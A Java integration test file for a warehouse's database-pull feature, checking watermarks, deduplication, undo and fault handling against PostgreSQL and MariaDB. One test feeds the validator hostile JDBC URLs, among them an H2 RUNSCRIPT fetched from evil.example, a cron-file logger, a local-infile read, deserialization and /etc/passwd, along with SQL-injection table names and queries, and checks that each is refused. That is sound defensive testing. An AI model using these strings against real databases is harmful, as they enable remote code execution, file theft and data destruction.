package io.rekindle.collect.pulls;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.rekindle.collect.ImportKind;
import io.rekindle.collect.ImportMapping;
import io.rekindle.collect.Imports;
import io.rekindle.platform.Problem;
import io.rekindle.testing.RekindleTest;
import io.rekindle.testing.TestMariaDb;
import io.rekindle.testing.TestPostgres;
import io.rekindle.warehouse.Sql;
import io.rekindle.warehouse.Warehouse;
import java.math.BigDecimal;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.time.Duration;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.UUID;
import org.awaitility.Awaitility;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;

/** Rows of real databases: in by watermark, once, with their faults, and taken back. */
@RekindleTest
class PullTest {
    private final Databases databases;
    private final Pulls pulls;
    private final Imports imports;
    private final Warehouse warehouse;
    private final JdbcClient jdbc;
    private final int port;
    private final String mark = UUID.randomUUID().toString().substring(0, 8);

    PullTest(
            @Autowired Databases databases,
            @Autowired Pulls pulls,
            @Autowired Imports imports,
            @Autowired Warehouse warehouse,
            @Autowired JdbcClient jdbc,
            @LocalServerPort int port) {
        this.databases = databases;
        this.pulls = pulls;
        this.imports = imports;
        this.warehouse = warehouse;
        this.jdbc = jdbc;
        this.port = port;
    }

    @Test
    void changedRowsOfPostgreSqlComeInOnceAndAreTakenBackAsAnImport() throws Exception {
        var place = TestPostgres.newDatabase();
        try (var shop = DriverManager.getConnection(place.url(), place.user(), place.password())) {
            run(
                    shop,
                    "create table people (id text, mail text, city text, vip boolean, points numeric(12,2), born date, updated_at timestamptz)");
            run(shop, """
                    insert into people values
                        ('pg-%1$s-1', 'one@%1$s.example', 'Berlin', true, 12.50, '1980-02-03', '2026-01-05 10:00:00+01'),
                        ('pg-%1$s-2', null, 'Köln', false, 0, 'infinity', '2026-01-06 10:00:00+01'),
                        (null, null, 'Nowhere', null, null, null, '2026-01-04 10:00:00+01')
                    """.formatted(mark));
            var database =
                    databases.create(new Database.Draft("shop " + mark, place.url(), place.user(), place.password()));
            assertThat(databases.tryOut(database.id()).product()).startsWith("PostgreSQL");

            var preview = pulls.preview(database.id(), new Pull.Sight("public.people", null));
            assertThat(preview.look().kind()).isEqualTo(ImportKind.CUSTOMERS);
            assertThat(preview.look().fields())
                    .containsEntry("email", "mail")
                    .containsEntry("time", "updated_at")
                    .containsEntry("customer", "id");
            assertThat(preview.look().sample()).hasSize(3);
            assertThat(preview.watermarks().getFirst()).isEqualTo("updated_at");

            var pull = pulls.create(draft(
                    "people " + mark,
                    database.id(),
                    "public.people",
                    null,
                    ImportMapping.of(
                            ImportKind.CUSTOMERS,
                            Map.of(
                                    "customer", "id",
                                    "email", "mail",
                                    "time", "updated_at",
                                    "birthday", "born",
                                    "traits.vip", "vip",
                                    "traits.points", "points")),
                    "updated_at",
                    60));
            var first = over(pull.id(), null);
            assertThat(first.state()).as("%s", first.failure()).isEqualTo(Pull.State.DONE);
            assertThat(first.askedBy()).isEqualTo("schedule");
            assertThat(List.of(
                            Objects.requireNonNull(first.rows()),
                            Objects.requireNonNull(first.brought()),
                            Objects.requireNonNull(first.alreadyThere()),
                            Objects.requireNonNull(first.rejected())))
                    .containsExactly(3L, 2L, 0L, 1L);
            assertThat(pulls.get(pull.id()).watermark()).isEqualTo("2026-01-06T09:00:00Z");
            assertThat(imports.rejects(Objects.requireNonNull(first.importId()), 0, 9).items().stream()
                            .map(reject -> reject.rowNumber() + " " + reject.reason()))
                    .containsExactly("3 no_customer");
            assertThat(imports.get(first.importId()).origin())
                    .isEqualTo(new Imports.Origin("pull", pull.id(), "people " + mark));
            assertThat(traits(first.importId()))
                    .contains("city=\"Berlin\"", "city=\"Köln\"", "vip=true", "points=12.5", "birth_year=1980");
            assertThat(times(first.importId())).contains("2026-01-05T09:00:00Z", "2026-01-06T09:00:00Z");

            run(shop, """
                    insert into people values ('pg-%1$s-3', null, 'Bonn', true, 1, null, '2026-01-07 10:00:00+01'),
                        ('pg-%1$s-4', null, 'Ulm', true, 1, null, '3026-01-07 10:00:00+01')
                    """.formatted(mark));
            run(shop, "update people set city = 'Kiel', updated_at = '2026-01-08 10:00:00+01' where id like '%-1'");
            assertThat(pulls.ask(pull.id(), true).dryRun()).isTrue();
            var dry = over(pull.id(), first.id());
            assertThat(dry.brought()).isEqualTo(2);
            assertThat(pulls.get(pull.id()).watermark()).isEqualTo("2026-01-06T09:00:00Z");
            pulls.ask(pull.id(), false);
            var second = over(pull.id(), dry.id());
            assertThat(second.rows()).as("what is new, and the overlap").isEqualTo(4);
            assertThat(second.brought()).isEqualTo(2);
            assertThat(second.alreadyThere()).isEqualTo(1);
            assertThat(second.rejected()).as("a time in the future").isEqualTo(1);
            assertThat(pulls.get(pull.id()).watermark()).as("no mistyped year").isEqualTo("2026-01-08T09:00:00Z");

            pulls.ask(pull.id(), false);
            var third = over(pull.id(), second.id());
            assertThat(third.brought()).isZero();
            run(shop, "insert into people values ('pg-%1$s-5', null, 'Jena', true, 1, null, null)".formatted(mark));
            pulls.ask(pull.id(), false);
            var untimed = over(pull.id(), third.id());
            assertThat(untimed.rows())
                    .as("the overlap, what lies in the future, and the row without a watermark")
                    .isEqualTo(Objects.requireNonNull(third.rows()) + 1);
            assertThat(untimed.brought()).isEqualTo(1);
            pulls.ask(pull.id(), false);
            var known = over(pull.id(), untimed.id());
            assertThat(known.rows()).isEqualTo(untimed.rows());
            assertThat(known.brought()).as("there already").isZero();
            assertThat(pulls.get(pull.id()).watermark()).isEqualTo("2026-01-08T09:00:00Z");

            assertThat(imports.undo(Objects.requireNonNull(second.importId())).state())
                    .isEqualTo(Imports.State.UNDONE);
            pulls.rewind(pull.id(), null);
            pulls.ask(pull.id(), false);
            var again = over(pull.id(), known.id());
            assertThat(again.brought()).as("everything that is not there").isEqualTo(2);
            var paused = pulls.pause(pull.id());
            assertThat(paused.dueAt()).isNull();
            assertThat(pulls.resume(pull.id()).dueAt()).isNotNull();
            assertThat(over(pull.id(), again.id()).brought())
                    .as("who goes on is due at once")
                    .isZero();
            assertThat(pulls.runs(pull.id(), Long.MAX_VALUE, 2).items()).hasSize(2);
            databases.update(
                    database.id(), new Database.Draft("the same " + mark, place.url(), place.user(), place.password()));
            assertThat(pulls.get(pull.id()).watermark()).isEqualTo("2026-01-08T09:00:00Z");
            var other = TestPostgres.newDatabase();
            databases.update(
                    database.id(), new Database.Draft("moved " + mark, other.url(), other.user(), other.password()));
            assertThat(pulls.get(pull.id()).watermark())
                    .as("another database has other numbers")
                    .isNull();
            assertThatThrownBy(() -> databases.delete(database.id())).hasMessageContaining("1 pull(s)");
            assertThat(everything("/api/databases") + everything("/api/pulls"))
                    .contains("people " + mark)
                    .doesNotContain(place.password());
            pulls.pause(pull.id());
            pulls.delete(pull.id());
            databases.delete(database.id());
        }
    }

    /** Ten rows of one day and campaign: a pull that reads one of them again must not make that one the day's costs. */
    @Test
    void costsOfADayAreTheLastWordOnEachOfItsRows() throws Exception {
        var place = TestPostgres.newDatabase();
        try (var shop = DriverManager.getConnection(place.url(), place.user(), place.password())) {
            run(
                    shop,
                    "create table spend (no bigint, at timestamptz, channel text, campaign text, amount numeric(12,2), updated_at timestamptz)");
            run(shop, """
                    insert into spend select h, timestamptz '2026-01-05 00:00Z' + h * interval '1 hour', 'ads', 'c-%s', 10,
                        timestamptz '2026-01-05 00:30Z' + h * interval '1 hour' from generate_series(0, 9) h
                    """.formatted(mark));
            var database =
                    databases.create(new Database.Draft("spend " + mark, place.url(), place.user(), place.password()));
            var fields = Map.of("day", "at", "channel", "channel", "campaign", "campaign", "amount", "amount");
            assertThatThrownBy(() -> pulls.create(draft(
                            "spend " + mark,
                            database.id(),
                            "spend",
                            null,
                            ImportMapping.of(ImportKind.COSTS, fields),
                            "updated_at",
                            null)))
                    .isInstanceOfSatisfying(
                            Problem.class,
                            problem -> assertThat(problem.faults())
                                    .extracting(Problem.Fault::code)
                                    .containsExactly("costs_without_row_id"));
            var known = new HashMap<>(fields);
            known.put("row_id", "no");
            var pull = pulls.create(draft(
                    "spend " + mark,
                    database.id(),
                    "spend",
                    null,
                    ImportMapping.of(ImportKind.COSTS, known),
                    "updated_at",
                    null));
            var first = pulledAgain(pull, null);
            assertThat(first.brought()).isEqualTo(10);
            assertThat(costs("2026-01-05")).isEqualByComparingTo("100");
            var second = pulledAgain(pull, first);
            assertThat(second.alreadyThere()).as("the overlap").isEqualTo(1);
            assertThat(costs("2026-01-05")).isEqualByComparingTo("100");
            assertThat(rowsOf("costs", "campaign", "c-" + mark))
                    .as("the row of the overlap stands under both")
                    .isEqualTo(11);
            second = pulledAgain(pull, second);
            assertThat(rowsOf("costs", "campaign", "c-" + mark))
                    .as("and a third time is not written down")
                    .isEqualTo(11);

            run(shop, "update spend set amount = 15, updated_at = '2026-01-06 00:00Z' where no = 3");
            run(
                    shop,
                    "insert into spend values (10, '2026-01-05 11:00Z', 'ads', 'c-%s', 7, '2026-01-06 00:00Z')"
                            .formatted(mark));
            var changed = pulledAgain(pull, second);
            assertThat(changed.brought()).isEqualTo(2);
            assertThat(costs("2026-01-05")).as("9 x 10 + 15 + 7").isEqualByComparingTo("112");
            run(shop, "update spend set at = '2026-01-06 11:00Z', updated_at = '2026-01-06 01:00Z' where no = 10");
            var moved = pulledAgain(pull, changed);
            assertThat(costs("2026-01-05")).isEqualByComparingTo("105");
            assertThat(costs("2026-01-06")).isEqualByComparingTo("7");

            // A file by hand stands until the pull has something new to say of the day.
            var file = Files.writeString(
                    Files.createTempFile("costs", ".csv"),
                    "day,channel,campaign,amount\n2026-01-05,ads,c-%s,80\n".formatted(mark));
            long byHand = imports.start(file, "costs.csv", ImportMapping.of(ImportKind.COSTS, Map.of()), false, true)
                    .id();
            Awaitility.await()
                    .atMost(Duration.ofSeconds(60))
                    .until(() -> imports.get(byHand).state() == Imports.State.DONE);
            assertThat(costs("2026-01-05")).isEqualByComparingTo("80");
            var same = pulledAgain(pull, moved);
            assertThat(costs("2026-01-05")).isEqualByComparingTo("80");
            run(shop, "update spend set amount = 20, updated_at = '2026-01-07 00:00Z' where no = 3");
            var last = pulledAgain(pull, same);
            assertThat(costs("2026-01-05")).as("9 x 10 + 20").isEqualByComparingTo("110");
            var repeated = pulledAgain(pull, last);
            assertThat(repeated.alreadyThere()).as("the overlap").isEqualTo(1);
            assertThat(costs("2026-01-05")).isEqualByComparingTo("110");
            imports.undo(Objects.requireNonNull(repeated.importId()));
            assertThat(costs("2026-01-05")).as("the earlier one stands").isEqualByComparingTo("110");
            imports.undo(Objects.requireNonNull(last.importId()));
            assertThat(costs("2026-01-05")).isEqualByComparingTo("80");
            imports.undo(byHand);
            assertThat(costs("2026-01-05")).isEqualByComparingTo("105");
            pulls.delete(pull.id());
        }
    }

    /** A row that two pulls read stands until both are taken back; a file by hand of between outlasts its repetition. */
    @Test
    void aRowOfCostsThatALaterPullReadAgainStandsUnderThatPullToo() throws Exception {
        var place = TestPostgres.newDatabase();
        try (var shop = DriverManager.getConnection(place.url(), place.user(), place.password())) {
            run(shop, "create table spend (no bigint, at date, amount numeric(12,2), updated_at timestamptz)");
            run(
                    shop,
                    "insert into spend values (1, '2026-01-05', 10, '2026-01-05 10:00Z'), (2, '2026-01-05', 5, '2026-01-05 12:00Z')");
            var database =
                    databases.create(new Database.Draft("twice " + mark, place.url(), place.user(), place.password()));
            var pull = pulls.create(draft(
                    "twice " + mark,
                    database.id(),
                    null,
                    "select *, 'c-%s' as campaign from spend".formatted(mark),
                    ImportMapping.of(
                            ImportKind.COSTS,
                            Map.of("day", "at", "campaign", "campaign", "amount", "amount", "row_id", "no")),
                    "updated_at",
                    null));
            var first = pulledAgain(pull, null);
            var file = Files.writeString(
                    Files.createTempFile("costs", ".csv"), "day,campaign,amount\n2026-01-05,c-%s,80\n".formatted(mark));
            long byHand = imports.start(file, "costs.csv", ImportMapping.of(ImportKind.COSTS, Map.of()), false, true)
                    .id();
            Awaitility.await()
                    .atMost(Duration.ofSeconds(60))
                    .until(() -> imports.get(byHand).state() == Imports.State.DONE);
            var second = pulledAgain(pull, first);
            assertThat(second.rows()).as("the overlap").isEqualTo(1);
            assertThat(costs("2026-01-05")).as("nothing new was said").isEqualByComparingTo("80");
            imports.undo(byHand);
            assertThat(costs("2026-01-05")).isEqualByComparingTo("15");

            imports.undo(Objects.requireNonNull(first.importId()));
            assertThat(costs("2026-01-05")).as("what the second read").isEqualByComparingTo("5");
            imports.undo(Objects.requireNonNull(second.importId()));
            assertThat(costs("2026-01-05")).isEqualByComparingTo("0");
            pulls.delete(pull.id());
        }
    }

    /** What a pull knows already is written down a second time, so that either run can be taken back, and no more. */
    @Test
    void productsThatStayAsTheyAreDoNotFillTheHistory() throws Exception {
        var place = TestPostgres.newDatabase();
        try (var shop = DriverManager.getConnection(place.url(), place.user(), place.password())) {
            run(shop, "create table goods (id text, name text, price numeric(12,2))");
            run(shop, "insert into goods select 'g-%1$s-' || n, 'n', n from generate_series(1, 100) n".formatted(mark));
            run(shop, "insert into goods values ('h-%1$s', null, 5)".formatted(mark));
            var database =
                    databases.create(new Database.Draft("goods " + mark, place.url(), place.user(), place.password()));
            var pull = pulls.create(draft(
                    "goods " + mark,
                    database.id(),
                    "goods",
                    null,
                    ImportMapping.of(
                            ImportKind.PRODUCTS, Map.of("product_id", "id", "product_name", "name", "price", "price")),
                    null,
                    null));
            var first = pulledAgain(pull, null);
            var second = pulledAgain(pull, first);
            var third = pulledAgain(pull, second);
            assertThat(third.alreadyThere()).isEqualTo(101);
            var fourth = pulledAgain(pull, third);
            assertThat(rowsOf("product_changes", "product_id", "g-" + mark + "-%"))
                    .isEqualTo(200);

            // Back to a price it had: that is what holds, though it was said before.
            run(shop, "update goods set price = 6 where id like 'h-%'");
            var fifth = pulledAgain(pull, fourth);
            assertThat(price("h-" + mark)).isEqualByComparingTo("6");
            run(shop, "update goods set price = 5 where id like 'h-%'");
            var sixth = pulledAgain(pull, fifth);
            assertThat(price("h-" + mark)).isEqualByComparingTo("5");
            assertThat(rowsOf("product_changes", "product_id", "g-" + mark + "-%"))
                    .isEqualTo(200);

            // A run taken back leaves what the other said; then the next one says it for the second time again.
            imports.undo(Objects.requireNonNull(first.importId()));
            assertThat(price("g-" + mark + "-7")).isEqualByComparingTo("7");
            var seventh = pulledAgain(pull, sixth);
            imports.undo(Objects.requireNonNull(second.importId()));
            assertThat(price("g-" + mark + "-7")).isEqualByComparingTo("7");
            assertThat(price("h-" + mark)).isEqualByComparingTo("5");
            pulledAgain(pull, seventh);
            assertThat(rowsOf("product_changes", "product_id", "g-" + mark + "-%"))
                    .as("twice taken back, twice standing")
                    .isEqualTo(400);
            pulls.delete(pull.id());
        }
    }

    private Pull.Run pulledAgain(Pull pull, Pull.@Nullable Run after) {
        pulls.ask(pull.id(), false);
        var run = over(pull.id(), after == null ? null : after.id());
        assertThat(run.state()).as("%s", run.failure()).isEqualTo(Pull.State.DONE);
        return run;
    }

    private BigDecimal costs(String day) {
        return warehouse
                .first(
                        Sql.of(
                                "select coalesce(sum(amount), 0) as n from costs_now where campaign = ? and day = cast(? as date)",
                                "c-" + mark,
                                day),
                        row -> row.decimal("n"))
                .orElseThrow();
    }

    private BigDecimal price(String product) {
        return warehouse
                .first(
                        Sql.of("select price from products_now where product_id = ?", product),
                        row -> row.decimal("price"))
                .orElseThrow();
    }

    private long rowsOf(String table, String column, String pattern) {
        return warehouse
                .first(
                        Sql.of("select count(*) as n from %s where %s like ?".formatted(table, column), pattern),
                        row -> row.longValue("n"))
                .orElseThrow();
    }

    /** A column renamed at the other end rejects every row: that must not look like nothing new. */
    @Test
    void aPullOfWhoseRowsTooFewCanBeUsedIsFaultyAndKeepsItsWatermark() throws Exception {
        var place = TestPostgres.newDatabase();
        try (var shop = DriverManager.getConnection(place.url(), place.user(), place.password())) {
            run(shop, "create table people (no bigint, id text, city text)");
            run(shop, "insert into people values (1, 'f-%1$s-1', 'Berlin'), (2, 'f-%1$s-2', 'Bonn')".formatted(mark));
            var database =
                    databases.create(new Database.Draft("faulty " + mark, place.url(), place.user(), place.password()));
            var pull = pulls.create(draft(
                    "faulty " + mark,
                    database.id(),
                    "people",
                    null,
                    ImportMapping.of(ImportKind.CUSTOMERS, Map.of("customer", "id")),
                    "no",
                    null));
            pulls.ask(pull.id(), false);
            var first = over(pull.id(), null);
            assertThat(first.state()).as("%s", first.failure()).isEqualTo(Pull.State.DONE);
            assertThat(pulls.get(pull.id()).watermark()).isEqualTo("2");

            run(shop, "update people set id = ''");
            run(shop, "insert into people values (3, '', 'Ulm')");
            pulls.ask(pull.id(), false);
            var faulty = over(pull.id(), first.id());
            assertThat(faulty.state()).isEqualTo(Pull.State.FAULTY);
            assertThat(faulty.rejected()).isEqualTo(3);
            assertThat(faulty.failureCode()).isEqualTo("too_many_rejected");
            assertThat(faulty.failureParameters())
                    .containsEntry("rejected", "3")
                    .containsEntry("rows", "3");
            assertThat(faulty.failure()).contains("3 of 3 rows");
            assertThat(pulls.get(pull.id()).watermark()).isEqualTo("2");

            // Half of them is enough: they are in, and the watermark moves on.
            run(shop, "update people set id = 'f-%s-' || no where no < 3".formatted(mark));
            pulls.ask(pull.id(), false);
            assertThat(over(pull.id(), faulty.id()).state()).isEqualTo(Pull.State.DONE);
            assertThat(pulls.get(pull.id()).watermark()).isEqualTo("3");
            pulls.delete(pull.id());
            databases.delete(database.id());
        }
    }

    @Test
    void ordersOfMariaDbComeInByNumberWithTheirTimesAndFaults() throws Exception {
        assumeTrue(TestMariaDb.missing().isEmpty(), () -> TestMariaDb.missing().orElseThrow());
        var place = TestMariaDb.newDatabase();
        try (var shop = DriverManager.getConnection(place.url(), place.user(), place.password())) {
            run(shop, "set sql_mode = ''");
            run(shop, "set time_zone = '+08:00'");
            run(
                    shop,
                    "create table `order lines` (`no` bigint auto_increment primary key, order_id varchar(20), paid timestamp null, order_date datetime, member_id varchar(20), sku varchar(20), name varchar(50) character set gbk, qty tinyint(1), price decimal(10,2))");
            run(shop, """
                    insert into `order lines` (order_id, paid, order_date, member_id, sku, name, qty, price) values
                        ('m-%1$s-1', '2026-01-05 10:00:00', '2026-01-05 10:00:00', 'mm-%1$s', 'tea', '绿茶', 2, 9.90),
                        ('m-%1$s-2', '2026-01-06 10:00:00', '0000-00-00 00:00:00', 'mm-%1$s', 'tea', '绿茶', 1, 9.90)
                    """.formatted(mark));
            var database =
                    databases.create(new Database.Draft("market " + mark, place.url(), place.user(), place.password()));
            assertThat(databases.tryOut(database.id()).product()).contains("Maria");
            var sight = new Pull.Sight(null, "select * from `order lines` where price > 1;");
            assertThat(pulls.preview(database.id(), sight).look().fields()).containsEntry("customer", "member_id");
            var byPayment = pulls.create(
                    draft("paid " + mark, database.id(), null, sight.query(), mapping("paid"), "no", null));
            pulls.ask(byPayment.id(), false);
            var paid = over(byPayment.id(), null);
            assertThat(paid.state()).as("%s", paid.failure()).isEqualTo(Pull.State.DONE);
            assertThat(paid.brought()).isEqualTo(2);
            assertThat(lines())
                    .containsExactly(
                            "m-" + mark + "-1 2026-01-05T02:00:00Z 2.0000 绿茶",
                            "m-" + mark + "-2 2026-01-06T02:00:00Z 1.0000 绿茶");
            assertThat(pulls.get(byPayment.id()).watermark()).isEqualTo("2");
            imports.undo(Objects.requireNonNull(paid.importId()));

            var byOrder = pulls.create(
                    draft("placed " + mark, database.id(), "order lines", null, mapping("order_date"), "no", null));
            pulls.ask(byOrder.id(), false);
            var placed = over(byOrder.id(), null);
            assertThat(imports.rejects(Objects.requireNonNull(placed.importId()), 0, 9).items().stream()
                            .map(reject -> reject.rowNumber() + " " + reject.reason()))
                    .containsExactly("2 bad_time");
            assertThat(lines()).containsExactly("m-" + mark + "-1 2026-01-05T10:00:00Z 2.0000 绿茶");
            run(
                    shop,
                    "insert into `order lines` (order_id, order_date, member_id, sku, name, qty, price) values ('m-%1$s-3', '2026-01-07 10:00:00', 'mm-%1$s', 'tea', 'x', -1, 9.90)"
                            .formatted(mark));
            pulls.ask(byOrder.id(), false);
            var next = over(byOrder.id(), placed.id());
            assertThat(next.rows()).as("an overlap of a thousand").isEqualTo(3);
            assertThat(next.brought()).isEqualTo(1);
        }
    }

    private static ImportMapping mapping(String time) {
        return ImportMapping.of(
                ImportKind.ORDERS,
                Map.of(
                        "order_id", "order_id",
                        "time", time,
                        "customer", "member_id",
                        "product_id", "sku",
                        "product_name", "name",
                        "quantity", "qty",
                        "unit_price", "price"));
    }

    @Test
    void whatCouldReachFurtherThanADatabaseOfTheCompanyIsRefused() throws Exception {
        for (var url : List.of(
                "jdbc:postgresql://127.0.0.1/shop?socketFactory=org.example.Evil",
                "jdbc:postgresql://127.0.0.1/shop?loggerFile=/etc/cron.d/x",
                "jdbc:mariadb://127.0.0.1/shop?allowLocalInfile=true",
                "jdbc:mysql://127.0.0.1/shop?autoDeserialize=true",
                "jdbc:mysql://127.0.0.1/shop?sslMode=required&allowLoadLocalInfile=true"))
            assertThatThrownBy(() -> JdbcAddress.of(url)).as(url).hasMessageContaining("is not passed on");
        for (var url : List.of(
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
                "jdbc:duckdb:/etc/passwd",
                "jdbc:mariadb:replication://a.example,b.example/shop",
                "jdbc:mariadb://address=(host=a.example)(allowLocalInfile=true)/shop",
                "jdbc:postgresql://a.example,b.example/shop",
                "jdbc:postgresql:shop",
                "jdbc:postgresql://ann:secret@a.example/shop",
                "http://a.example"))
            assertThatThrownBy(() -> JdbcAddress.of(url)).as(url).hasMessageContaining("one host");
        assertThat(JdbcAddress.of("jdbc:sqlserver://db.example:1433;databaseName=shop;encrypt=true")
                        .options())
                .hasSize(2);
        assertThat(JdbcAddress.of("jdbc:postgresql://[::1]:5432/shop?sslmode=verify-full")
                        .host())
                .isEqualTo("::1");

        assertThat(refusal("jdbc:postgresql://192.168.7.7/shop", "x")).isEqualTo("address_not_allowed");
        assertThat(refusal("jdbc:sqlserver://127.0.0.1", "x")).isEqualTo("jdbc_driver_missing");
        var place = TestPostgres.newDatabase();
        assertThat(refusal(place.url(), "not " + place.password())).isEqualTo("database_refused");
        // A driver that looks the name up again is stopped where it connects.
        assertThatThrownBy(
                        () -> new GuardedSockets().createSocket().connect(new InetSocketAddress("192.168.7.7", 1), 99))
                .hasMessageContaining("rekindle.outgoing.allowed");

        try (var shop = DriverManager.getConnection(place.url(), place.user(), place.password())) {
            run(shop, "create table t (id int, mail text)");
            run(shop, "insert into t values (1, 'a@b.example')");
            run(shop, "create sequence s");
        }
        var database =
                databases.create(new Database.Draft("refused " + mark, place.url(), place.user(), place.password()));
        assertThat(code(() -> pulls.preview(database.id(), new Pull.Sight(null, "select 1 as a; delete from t"))))
                .isEqualTo("pull_query_invalid");
        assertThat(code(() -> pulls.preview(database.id(), new Pull.Sight(null, "select nextval('s') as n"))))
                .as("nothing is written")
                .isEqualTo("database_refused");
        assertThat(code(() -> pulls.preview(database.id(), new Pull.Sight(null, "select id, id from t"))))
                .isEqualTo("pull_column_ambiguous");
        assertThat(code(() -> pulls.preview(database.id(), new Pull.Sight("t\"; drop table t", null))))
                .isEqualTo("pull_table_invalid");
        assertThat(code(() -> pulls.preview(database.id(), new Pull.Sight(null, null))))
                .isEqualTo("pull_of_nothing");
        var of = ImportMapping.of(ImportKind.CUSTOMERS, Map.of("email", "mail"));
        assertThat(code(() -> pulls.create(draft("r", database.id(), "t", null, of, "mail", null))))
                .isEqualTo("watermark_column_invalid");
        assertThat(code(() -> pulls.create(draft(
                        "r",
                        database.id(),
                        "t",
                        null,
                        ImportMapping.of(ImportKind.CUSTOMERS, Map.of("email", "e")),
                        null,
                        null))))
                .isEqualTo("import_mapping_invalid");
        var dollars = new ImportMapping(
                Map.of("product_id", "mail"), null, "USD", null, null, null, null, ImportKind.PRODUCTS, null);
        assertThat(code(() -> pulls.create(draft("r", database.id(), "t", null, dollars, null, null))))
                .isEqualTo("import_rate_missing");
        assertThat(code(() -> databases.update(
                        database.id(),
                        new Database.Draft("refused " + mark, "jdbc:postgresql://evil.example/x", "u", null))))
                .as("a password goes nowhere else")
                .isEqualTo("database_password_again");

        // A pull that was open when the server ended, and whose table is gone since.
        var pull = pulls.create(draft("gone " + mark, database.id(), "t", null, of, null, null));
        try (var shop = DriverManager.getConnection(place.url(), place.user(), place.password())) {
            run(shop, "drop table t");
        }
        jdbc.sql(
                        "insert into pull_runs (pull_id, dry_run, state, asked_by, began_at) values (?, false, 'reading', 'x', timestamptz '2026-01-01 00:00Z')")
                .param(pull.id())
                .update();
        var failed = over(pull.id(), null);
        assertThat(failed.failureCode()).isEqualTo("database_refused");
        assertThat(failed.failure()).contains("does not exist");
        pulls.delete(pull.id());
        databases.delete(database.id());
    }

    private String refusal(String url, String password) {
        var made = databases.create(new Database.Draft("refusal " + UUID.randomUUID(), url, "postgres", password));
        try {
            return code(() -> databases.tryOut(made.id()));
        } finally {
            databases.delete(made.id());
        }
    }

    private static String code(Runnable work) {
        try {
            work.run();
            return "none";
        } catch (Problem e) {
            return e.code();
        }
    }

    private static Pull.Draft draft(
            String name,
            long database,
            @Nullable String table,
            @Nullable String query,
            ImportMapping mapping,
            @Nullable String watermark,
            @Nullable Integer everyMinutes) {
        return new Pull.Draft(name, database, table, query, mapping, watermark, null, everyMinutes, null, null);
    }

    /** The run after one, when it is over. */
    private Pull.Run over(long pull, @Nullable Long after) {
        return Awaitility.await()
                .atMost(Duration.ofSeconds(60))
                .pollInterval(Duration.ofMillis(50))
                .until(
                        () -> pulls.runs(pull, Long.MAX_VALUE, 1).items().stream()
                                .filter(run -> after == null || run.id() > after)
                                .filter(run -> run.endedAt() != null)
                                .findFirst()
                                .orElse(null),
                        Objects::nonNull);
    }

    private List<String> lines() {
        return warehouse.query(
                Sql.of(
                        "select order_id, occurred_at, quantity, product_name from order_lines_now where order_id like ? order by order_id",
                        "m-" + mark + "-%"),
                row -> "%s %s %s %s"
                        .formatted(
                                row.text("order_id"),
                                row.instant("occurred_at"),
                                row.decimal("quantity"),
                                row.text("product_name")));
    }

    private List<String> traits(long id) {
        return warehouse.query(
                Sql.of(
                        "select trait, value from traits_now where customer_id in (select customer_id from events where import_id = ?)",
                        id),
                row -> row.text("trait") + "=" + row.text("value"));
    }

    private List<String> times(long id) {
        return warehouse.query(
                Sql.of("select occurred_at from events where import_id = ?", id),
                row -> row.instant("occurred_at").toString());
    }

    private String everything(String path) throws Exception {
        return HttpClient.newHttpClient()
                .send(
                        HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path))
                                .header("Authorization", "Bearer " + RekindleTest.ADMIN_KEY)
                                .build(),
                        HttpResponse.BodyHandlers.ofString())
                .body();
    }

    private static void run(Connection connection, String sql) throws SQLException {
        try (var statement = connection.createStatement()) {
            statement.execute(sql);
        }
    }
}
